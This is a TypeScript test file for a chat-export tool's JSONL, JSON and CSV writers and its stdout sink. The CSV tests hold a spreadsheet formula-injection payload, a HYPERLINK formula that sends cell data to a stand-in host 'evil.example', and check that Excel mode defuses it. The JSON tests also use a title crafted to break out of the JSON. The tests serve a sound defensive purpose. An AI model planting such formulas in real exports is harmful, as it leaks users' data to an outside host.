import { Writable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { IgtgError } from '../../src/core/errors.js';
import { messageToJson } from '../../src/core/message-json.js';
import { CSV_COLUMNS, createCsvWriter, csvField } from '../../src/export/csv-writer.js';
import { createJsonWriter } from '../../src/export/json-writer.js';
import { createJsonlWriter } from '../../src/export/jsonl-writer.js';
import { streamSink } from '../../src/export/text-sink.js';
import type { ExportWriter } from '../../src/export/types.js';
import { CLUB, ZOE, csvToMessages, parseCsv, sampleMessages, writeAll } from './export-fixtures.js';

function collector(): { stream: Writable; text: () => string } {
  const chunks: Buffer[] = [];
  const stream = new Writable({
    write(chunk: Buffer, _encoding, done) {
      chunks.push(chunk);
      done();
    },
  });
  return { stream, text: () => Buffer.concat(chunks).toString('utf8') };
}

async function exportText(make: (sink: ReturnType<typeof streamSink>) => ExportWriter, messages = sampleMessages()) {
  const out = collector();
  await writeAll(make(streamSink(out.stream)), messages);
  return out.text();
}

describe('stdout sink', () => {
  it('reports a reader that closed the pipe in one clear line', async () => {
    const closed = new Writable({
      write(_chunk, _encoding, done) {
        done(Object.assign(new Error('write EPIPE'), { code: 'EPIPE' }));
      },
    });
    const sink = streamSink(closed);
    const error = await (async () => {
      await sink.write('x'.repeat(300 * 1024));
      await sink.close();
    })().catch((e: unknown) => e);
    expect(error).toBeInstanceOf(IgtgError);
    expect((error as Error).message).toBe('the export was cut short: its reader closed the pipe before the end');
  });

  it('waits for a slow reader without piling up listeners', async () => {
    const slow = new Writable({
      highWaterMark: 1024,
      write(_chunk, _encoding, done) {
        setImmediate(done);
      },
    });
    const sink = streamSink(slow);
    const warnings: Error[] = [];
    const onWarning = (warning: Error) => warnings.push(warning);
    process.on('warning', onWarning);
    try {
      for (let i = 0; i < 40; i += 1) await sink.write('x'.repeat(300 * 1024));
      await sink.close();
      await new Promise((resolve) => setImmediate(resolve));
    } finally {
      process.off('warning', onWarning);
    }
    expect(slow.listenerCount('error')).toBeLessThanOrEqual(1);
    expect(warnings.map((warning) => warning.name)).not.toContain('MaxListenersExceededWarning');
  });
});

const titles: Record<string, string> = { [ZOE.id]: ZOE.title, [CLUB.id]: CLUB.title };

describe('jsonl export', () => {
  it('writes one show --json message per line with the thread title', async () => {
    const text = await exportText(createJsonlWriter);
    expect(text.endsWith('\n')).toBe(true);
    const lines = text.trimEnd().split('\n');
    const messages = sampleMessages();
    expect(lines).toHaveLength(messages.length);
    expect(lines.map((line) => JSON.parse(line))).toEqual(
      messages.map((m) => ({ ...messageToJson(m), thread_title: titles[m.threadId] })),
    );
  });
});

describe('json export', () => {
  it('writes one document of threads with their messages', async () => {
    const doc = JSON.parse(await exportText(createJsonWriter)) as { threads: Array<Record<string, unknown>> };
    const messages = sampleMessages();
    expect(doc.threads).toEqual(
      [ZOE, CLUB].map((thread) => ({
        thread_id: thread.id,
        title: thread.title,
        participants: thread.participants.map((p) => ({ name: p.name, username: p.username, user_id: p.userId })),
        messages: messages.filter((m) => m.threadId === thread.id).map(messageToJson),
      })),
    );
  });

  it('is a valid empty document when there is nothing to export', async () => {
    expect(JSON.parse(await exportText(createJsonWriter, []))).toEqual({ threads: [] });
  });

  it('handles a thread whose title would close the JSON early', async () => {
    const thread = { ...ZOE, title: 'a"}]}, {"x": 1' };
    const out = collector();
    const messages = sampleMessages().filter((m) => m.threadId === ZOE.id);
    await writeAll(createJsonWriter(streamSink(out.stream)), messages, [thread]);
    expect(JSON.parse(out.text()).threads[0].title).toBe(thread.title);
  });
});

describe('csv export', () => {
  it('quotes only what RFC 4180 needs, and tells null from the empty string', () => {
    expect(csvField(null)).toBe('');
    expect(csvField('')).toBe('""');
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
  });

  it("--excel keeps ids longer than a spreadsheet's 15 digits as text, and short numbers as numbers", () => {
    const threadId = '340282366841710300949128179876543210';
    expect(csvField(threadId, true)).toBe(`'${threadId}`);
    expect(csvField(threadId, false)).toBe(threadId);
    expect(csvField('123456789012345', true)).toBe('123456789012345');
    expect(csvField('1234567890123456', true)).toBe("'1234567890123456");
  });

  it('has a header row, CRLF rows, no BOM, and parses back to the show --json fields', async () => {
    const text = await exportText((sink) => createCsvWriter(sink, { excel: false }));
    expect(text.charCodeAt(0)).not.toBe(0xfeff);
    expect(text.startsWith(`${CSV_COLUMNS.join(',')}\r\n`)).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    const messages = sampleMessages();
    expect(csvToMessages(text)).toEqual(
      messages.map((m) => ({ ...messageToJson(m), thread_title: titles[m.threadId] })),
    );
  });

  it('never alters data in plain csv, formula-like cells included', async () => {
    const text = await exportText((sink) => createCsvWriter(sink, { excel: false }));
    expect(text).toContain('"=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
    expect(text).toContain('"+41 79 000 00 00, @bob, -5 °C"');
  });

  it('--excel adds a BOM and keeps formula-like cells as text', async () => {
    const text = await exportText((sink) => createCsvWriter(sink, { excel: true }));
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const rows = parseCsv(text.slice(1));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    const textColumn = CSV_COLUMNS.indexOf('text');
    const cells = rows.slice(1).map((row) => row[textColumn]);
    expect(cells).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect(cells).toContain("'+41 79 000 00 00, @bob, -5 °C");
    expect(cells).toContain('Hi Zoë! 👋');
    for (const row of rows.slice(1)) {
      for (const cell of row) if (cell) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('writes just the header when there is nothing to export', async () => {
    expect(await exportText((sink) => createCsvWriter(sink, { excel: false }), [])).toBe(
      `${CSV_COLUMNS.join(',')}\r\n`,
    );
  });
});
